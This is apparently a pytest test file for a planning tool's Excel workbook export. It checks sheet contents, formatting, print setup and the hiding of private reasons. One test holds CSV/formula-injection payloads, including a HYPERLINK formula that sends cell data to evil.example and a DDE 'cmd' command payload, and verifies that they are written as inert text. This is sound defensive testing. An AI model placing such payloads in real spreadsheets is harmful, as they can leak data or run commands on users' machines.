"""The Excel workbook: read back with pandas (and openpyxl for the formatting) and compared with the plan."""

from __future__ import annotations

import dataclasses
from datetime import date
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from planner.exports.xlsx import FIXED_SHEETS, write_workbook
from planner.rules.scoring import evaluate, total_penalty

MINI_DIR = Path(__file__).parent / "fixtures" / "mini"


@pytest.fixture(scope="module")
def workbook(mini, plan, tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("xlsx") / "plan.xlsx"
    write_workbook(mini, plan, path)
    return path


def _day(value) -> date:
    return pd.Timestamp(value).date()


def test_sheets(workbook, mini, plan):
    sheets = pd.read_excel(workbook, sheet_name=None)
    people = sorted(r.id for r in mini.reviewers if plan.of_reviewer(r.id))
    assert list(sheets) == list(FIXED_SHEETS) + people  # person sheets sorted by id


def test_engagements_sheet(workbook, mini, plan):
    frame = pd.read_excel(workbook, sheet_name="Engagements")
    assert set(frame["ID"]) == {e.id for e in mini.engagements}
    assert pd.api.types.is_datetime64_any_dtype(frame["Start"]), "dates are Excel dates"
    assert pd.api.types.is_datetime64_any_dtype(frame["End"])
    for _, row in frame.iterrows():
        o = plan.outcomes_by_id[row["ID"]]
        assert row["Status"] == o.status
        if o.scheduled:
            assert (_day(row["Start"]), _day(row["End"]), row["Host"]) == (o.start, o.end, o.host)
            if plan.lead(o.engagement_id):
                assert row["Lead"] == plan.lead(o.engagement_id)
            assert row["Team size"] == len(plan.team(o.engagement_id))
            for a in plan.team(o.engagement_id):
                assert a.reviewer_id in row["Team"]
            assert mini.participant(o.host).name in row["Place"]


def test_teams_sheet(workbook, plan):
    frame = pd.read_excel(workbook, sheet_name="Teams")
    got = {(r["Engagement ID"], r["Reviewer"], r["Role"], _day(r["Start"]), _day(r["End"]))
           for _, r in frame.iterrows()}
    assert got == {(a.engagement_id, a.reviewer_id, a.role, a.start, a.end) for a in plan.assignments}


def test_itinerary_sheets(workbook, mini, plan):
    for reviewer in mini.reviewers:
        mine = plan.of_reviewer(reviewer.id)
        if not mine:
            continue
        frame = pd.read_excel(workbook, sheet_name=reviewer.id)
        assert list(frame["Start"]) == sorted(frame["Start"]), "in date order"
        engagements = frame[frame["ID"].isin([a.engagement_id for a in mine])]
        got = {(r["ID"], _day(r["Start"]), _day(r["End"]), r["Role"]) for _, r in engagements.iterrows()}
        assert got == {(a.engagement_id, a.start, a.end, a.role) for a in mine}
        attended = {v.id for v in mini.events if reviewer.id in mini.attendees_of(v.attendees)}
        assert set(frame["ID"]) == {a.engagement_id for a in mine} | attended


def test_people_sheet(workbook, mini, plan):
    frame = pd.read_excel(workbook, sheet_name="People").set_index("Reviewer")
    for r in mini.reviewers:
        assert frame.loc[r.id, "Engagements"] == len(plan.of_reviewer(r.id))


def test_soft_terms_sheet(workbook, mini, plan):
    frame = pd.read_excel(workbook, sheet_name="Soft terms")
    terms = evaluate(mini, plan)
    by_name = frame.set_index("Term")
    for t in terms:
        assert by_name.loc[t.name, "Penalty"] == pytest.approx(round(t.penalty, 2))
        assert by_name.loc[t.name, "Value"] == pytest.approx(t.value)
        for sentence in t.sentences:
            assert sentence in str(by_name.loc[t.name, "Details"])
    assert by_name.loc["total", "Penalty"] == pytest.approx(total_penalty(terms), abs=0.01)
    assert by_name.loc["total", "Penalty"] == pytest.approx(plan.meta["objective"], abs=0.01)


def test_unscheduled_sheet(left_out, tmp_path):
    scenario, plan = left_out
    write_workbook(scenario, plan, tmp_path / "plan.xlsx")
    frame = pd.read_excel(tmp_path / "plan.xlsx", sheet_name="Unscheduled")
    assert list(frame["ID"]) == ["CM-RV"]
    assert frame.loc[0, "Reason"] == plan.outcomes_by_id["CM-RV"].reason != ""
    assert "plenary" in frame.loc[0, "Reason"]
    engagements = pd.read_excel(tmp_path / "plan.xlsx", sheet_name="Engagements").set_index("ID")
    assert pd.isna(engagements.loc["CM-RV", "Start"])
    assert engagements.loc["CM-RV", "Reason"] == plan.outcomes_by_id["CM-RV"].reason


def test_unscheduled_sheet_empty_but_present(workbook):
    frame = pd.read_excel(workbook, sheet_name="Unscheduled")
    assert frame.empty and "Reason" in frame.columns


def test_formatting(workbook):
    book = openpyxl.load_workbook(workbook)
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        assert all(cell.font.bold for cell in sheet[1] if cell.value is not None), sheet.title
        assert sheet.auto_filter.ref, sheet.title
        widths = [sheet.column_dimensions[c.column_letter].width for c in sheet[1]]
        assert all(w and w >= 8 for w in widths), sheet.title
    engagements = book["Engagements"]
    header = [c.value for c in engagements[1]]
    start = engagements.cell(row=2, column=header.index("Start") + 1)
    assert isinstance(start.value, date) and start.number_format == "yyyy-mm-dd"
    title_width = engagements.column_dimensions["B"].width
    assert title_width > len("Title") + 2, "widths follow the content"


def test_print_setup(workbook):
    """Every sheet prints landscape on A4, one page wide, the header row on every page (read back)."""
    book = openpyxl.load_workbook(workbook)
    for sheet in book.worksheets:
        setup = sheet.page_setup
        assert setup.orientation == "landscape", sheet.title
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
        assert (setup.fitToWidth, setup.fitToHeight) == (1, 0), sheet.title
        assert sheet.print_title_rows == "$1:$1", sheet.title
        assert sheet.oddHeader.center.text == "&A" and "&P" in sheet.oddFooter.center.text
    plain = openpyxl.Workbook().active
    assert plain.page_setup.orientation != "landscape" and not plain.print_title_rows  # the defaults differ


def test_numbers_keep_clear_of_the_next_column(workbook):
    """A number is right-aligned with an indent and text left-aligned with one, so that "6" and "RU" in
    neighbouring cells never read as "6RU"; a column is at least as wide as its longest value."""
    book = openpyxl.load_workbook(workbook)
    engagements = book["Engagements"]
    header = [c.value for c in engagements[1]]
    days = engagements.cell(row=2, column=header.index("Days") + 1)
    host = engagements.cell(row=2, column=header.index("Host") + 1)
    assert isinstance(days.value, int)
    assert days.alignment.horizontal == "right" and days.alignment.indent >= 1
    assert host.alignment.horizontal == "left" and host.alignment.indent >= 1
    for sheet in book.worksheets:
        for column in sheet.iter_cols(min_row=1):
            letter = column[0].column_letter
            longest = max(len(str(c.value).split("\n")[0]) for c in column if c.value is not None)
            if not any(isinstance(c.value, date) for c in column):
                assert sheet.column_dimensions[letter].width >= min(60, longest + 2), (sheet.title, letter)


def test_no_unavailability_in_workbook(left_out, tmp_path):
    scenario, plan = left_out
    secret = "Kimberley-PRIVATE-reason-7f3a"
    scenario = dataclasses.replace(scenario, unavailability=tuple(
        dataclasses.replace(u, reason=secret) for u in scenario.unavailability))
    assert scenario.unavailability
    write_workbook(scenario, plan, tmp_path / "plan.xlsx")
    for frame in pd.read_excel(tmp_path / "plan.xlsx", sheet_name=None, header=None).values():
        text = frame.astype(str).to_string()
        assert secret not in text
        assert "unavailab" not in text.lower()


def test_itinerary_sheets_follow_the_dashboards_itinerary(mini, plan):
    """One itinerary for dashboards and exports: the sheet lists the stops of planner.views.plan_view.itinerary,
    worded for the workbook (place with the host's country, fixed events attended)."""
    from planner.exports.common import place_of
    from planner.exports.xlsx import itinerary_frame
    from planner.views.plan_view import itinerary

    for r in mini.reviewers:
        stops = itinerary(mini, plan, [r.id])
        frame = itinerary_frame(mini, plan, r.id)
        assert list(frame["ID"]) == [s.engagement_id or s.event_id for s in stops]
        for s, (_, row) in zip(stops, frame.iterrows(), strict=True):
            if s.engagement_id:
                assert row["Role"] == s.role
                assert row["Place"] == place_of(mini, mini.engagements_by_id[s.engagement_id], s.host)
            else:
                assert row["Role"] == "attendee" and row["Kind"].endswith("(fixed event)")


# --- text that looks like a formula (issue 12; OWASP CSV-injection list) ---------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(1+1)", "=1+1\x07"]


def test_no_formula_cell_from_scenario_text(left_out, tmp_path):
    """Titles, places, the scenario name, an event and the reason of a left-out engagement that start like a
    formula: openpyxl finds no formula cell anywhere, and each text reads back as it was (the quote prefix
    marks it as text without being part of the value)."""
    scenario, plan = left_out
    titles = dict(zip([e.id for e in scenario.engagements], FORMULAS, strict=False))
    scenario = dataclasses.replace(
        scenario, name=FORMULAS[0],
        engagements=tuple(dataclasses.replace(e, title=titles[e.id], place=FORMULAS[3]) for e in scenario.engagements),
        events=tuple(dataclasses.replace(v, title=FORMULAS[4], place=FORMULAS[5]) for v in scenario.events))
    plan = dataclasses.replace(plan, engagements=tuple(
        dataclasses.replace(o, reason="\t=2*3 tab first") if not o.scheduled else o for o in plan.engagements))
    write_workbook(scenario, plan, tmp_path / "plan.xlsx")
    book = openpyxl.load_workbook(tmp_path / "plan.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert set(titles.values()) | {FORMULAS[0], FORMULAS[4], "\t=2*3 tab first"} <= texts
    assert "=1+1\u2407" in texts  # the event's place; the bell shown as its control picture
    assert any(text.startswith(f"{FORMULAS[3]}, ") for text in texts)  # an engagement's place, with its country
    formula_like = [c for c in cells if isinstance(c.value, str) and c.value[:1] in ("=", "+", "-", "@", "\t")]
    assert len(formula_like) >= 10 and all(c.quotePrefix for c in formula_like)
    assert book.properties.title == f"KP plan – {FORMULAS[0]}"
    assert pd.read_excel(tmp_path / "plan.xlsx", sheet_name="Summary").set_index("Item").loc[
        "Scenario", "Value"] == FORMULAS[0]


def test_text_with_control_characters_is_written(mini, plan, tmp_path):
    """openpyxl refuses control characters (XML cannot hold them): they are shown as control pictures."""
    scenario = dataclasses.replace(mini, name="bell\x07 escape\x1b nul\x00 line\nbreak", engagements=tuple(
        dataclasses.replace(e, title=f"{e.title}\x0b\x0c") for e in mini.engagements))
    write_workbook(scenario, plan, tmp_path / "plan.xlsx")
    summary = pd.read_excel(tmp_path / "plan.xlsx", sheet_name="Summary").set_index("Item")
    assert summary.loc["Scenario", "Value"] == "bell\u2407 escape\u241b nul\u2400 line\nbreak"
    titles = set(pd.read_excel(tmp_path / "plan.xlsx", sheet_name="Engagements")["Title"])
    assert {f"{e.title}\u240b\u240c" for e in mini.engagements} == titles
